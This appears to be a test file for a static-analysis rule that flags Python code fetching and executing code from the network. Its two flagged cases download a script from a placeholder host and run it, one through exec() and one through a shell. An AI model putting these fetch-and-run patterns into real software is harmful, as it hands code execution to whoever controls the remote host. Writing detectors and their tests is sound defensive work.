import ast
import subprocess
import urllib.request

import requests


def update():
    # ruleid: python-code-from-network
    exec(requests.get("https://example.com/update.py", timeout=10).text)
    with urllib.request.urlopen("https://example.com/run.sh") as answer:
        # ruleid: python-code-from-network
        subprocess.run(answer.read(), shell=True)


def settings():
    # ok: python-code-from-network
    return ast.literal_eval(requests.get("https://example.com/settings", timeout=10).text)


def local():
    # ok: python-code-from-network
    exec("x = 1")
